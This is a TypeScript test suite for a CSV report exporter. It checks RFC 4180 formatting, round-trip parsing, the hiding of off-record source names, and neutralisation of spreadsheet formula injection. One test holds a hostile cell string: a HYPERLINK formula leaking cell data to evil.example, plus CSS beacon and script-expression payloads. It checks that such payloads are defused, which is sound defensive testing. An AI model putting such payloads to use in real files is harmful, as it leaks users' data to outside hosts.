import { describe, expect, test } from 'vitest'
import fc from 'fast-check'
import { CSV_COLUMNS, csvCell, renderCsv } from '../../../src/core/report/csv'
import { buildReportModel } from '../../../src/core/report/build-report'
import { FIXED_NOW } from './fixture'
import { hostileCase } from './hostile-case'
import { sampleCase } from './sample-case'

/**
 * A strict RFC 4180 reader: CRLF between records, fields optionally quoted, "" for a quote inside
 * quotes, line breaks allowed inside quoted fields. Throws on anything malformed.
 */
function parseCsv(text: string): string[][] {
  const rows: string[][] = []
  let row: string[] = []
  let index = 0
  while (index < text.length) {
    let field = ''
    if (text[index] === '"') {
      index++
      for (;;) {
        if (index >= text.length) throw new Error('unterminated quoted field')
        if (text[index] === '"') {
          if (text[index + 1] === '"') {
            field += '"'
            index += 2
            continue
          }
          index++
          break
        }
        field += text[index++]
      }
    } else {
      while (index < text.length && text[index] !== ',' && text[index] !== '\r') {
        if (text[index] === '"' || text[index] === '\n')
          throw new Error(`bare ${JSON.stringify(text[index])} in unquoted field at ${index}`)
        field += text[index++]
      }
    }
    row.push(field)
    if (text[index] === ',') index++
    else if (text.startsWith('\r\n', index)) {
      rows.push(row)
      row = []
      index += 2
    } else if (index < text.length) throw new Error(`unexpected ${JSON.stringify(text[index])} after field at ${index}`)
  }
  if (row.length > 0) rows.push(row)
  return rows
}

/** What a reader does with a guarded cell: drop the one apostrophe the guard added. */
const unguard = (cell: string) => (/^''*[=+\-@\t\r\n]/.test(cell) ? cell.slice(1) : cell)

describe('CSV report', () => {
  test('starts with a UTF-8 BOM, ends every record with CRLF and has the documented columns', () => {
    const csv = renderCsv(sampleCase(), { now: FIXED_NOW })
    expect(csv.startsWith('\ufeff"number","id","kind"')).toBe(true)
    expect(csv.endsWith('\r\n')).toBe(true)
    expect(csv.replace(/"[^"]*"/g, '')).not.toMatch(/[^\r]\n/)
    expect(parseCsv(csv.slice(1))[0]).toEqual([...CSV_COLUMNS])
  })

  test('parses back to the same items, in report order, with their details', () => {
    const caseFile = sampleCase()
    const rows = parseCsv(renderCsv(caseFile, { now: FIXED_NOW }).slice(1))
    const [header, ...records] = rows
    const model = buildReportModel(caseFile, { now: FIXED_NOW })
    const entries = [...model.inDraft, ...model.dismissed, ...model.removed]
    expect(records).toHaveLength(entries.length)
    const column = (name: string) => header.indexOf(name)
    records.forEach((record, index) => {
      expect(record).toHaveLength(CSV_COLUMNS.length)
      expect(record[column('id')]).toBe(entries[index].item.id)
      expect(record[column('number')]).toBe(entries[index].label)
      expect(record[column('text')]).toBe(entries[index].text)
      expect(record[column('status')]).toBe(entries[index].status.label)
    })
    const item2 = records[1]
    expect(item2[column('sources')]).toBe('Riverton Transit annual report 2023')
    expect(item2[column('passages')]).toContain('Passenger boardings: 41.2m')
    expect(item2[column('notes')]).toBe('Priya Raman: Transit press office says journeys are not counted separately.')
    expect(records[0][column('sources')]).toBe(
      'Fares to fall from March (https://www.riverton.example.gov/news/fares-to-fall); Amara Osei, Chair, transport committee'
    )
    expect(records[3][column('open queries')]).toBe('Can we see the budget paper that ties the fare cut to the levy?')
    expect(records[2][column('speaker')]).toBe('Amara Osei')
    expect(records[0][column('score')]).toBe('0.8')
    expect(records[4][column('correction')]).toContain('raised £5.4 million')
  })

  test('a person source off the record is named "Person source (on file)", as in every shared report', () => {
    const caseFile = sampleCase()
    const s3 = caseFile.sources.find((source) => source.id === 's3')
    if (!s3?.person) throw new Error('fixture')
    Object.assign(s3, { title: 'Mira Kovac' })
    Object.assign(s3.person, { name: 'Mira Kovac', onRecord: false })
    const csv = renderCsv(caseFile, { now: FIXED_NOW })
    expect(csv).toContain('Person source (on file)')
    expect(csv).not.toContain('Kovac')
  })

  test('formula injection: cells starting with = + - @ tab or CR get a leading apostrophe', () => {
    expect(csvCell('=HYPERLINK("http://x")')).toBe('"\'=HYPERLINK(""http://x"")"')
    for (const start of ['=', '+', '-', '@', '\t', '\r']) expect(csvCell(`${start}1+1`).startsWith(`"'`)).toBe(true)
    expect(csvCell('5,000 troops')).toBe('"5,000 troops"')
    expect(csvCell("'=already quoted")).toBe('"\'\'=already quoted"')
    expect(csvCell("'Tis the season")).toBe('"\'Tis the season"')
    const rows = parseCsv(renderCsv(hostileCase(), { now: FIXED_NOW }).slice(1))
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
    expect(
      rows.some((row) =>
        row.includes(
          `'=HYPERLINK("https://evil.example/?leak="&A1,"Click") x{background:url(https://evil.example/beacon.png);width:expression(alert(1))} @import url(https://evil.example/x.css); cost 40 million.`
        )
      )
    ).toBe(true)
  })

  test('any text survives a round trip through a cell', () => {
    fc.assert(
      fc.property(fc.string({ unit: 'grapheme', maxLength: 60 }), fc.string({ maxLength: 20 }), (a, b) => {
        const line = `${csvCell(a)},${csvCell(b)}\r\n`
        const [row] = parseCsv(line)
        const clean = (value: string) =>
          // eslint-disable-next-line no-control-regex -- the report drops control characters; so does the expectation
          value.replace(/\r\n?/g, '\n').replace(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f]/g, '')
        expect(row.map(unguard)).toEqual(
          [clean(a), clean(b)].map((value) =>
            value.replace(
              /[\u202a-\u202e\u2066-\u2069\u200e\u200f\u061c]/g,
              (c) => `⟦U+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}⟧`
            )
          )
        )
      }),
      { numRuns: 300 }
    )
  })
})
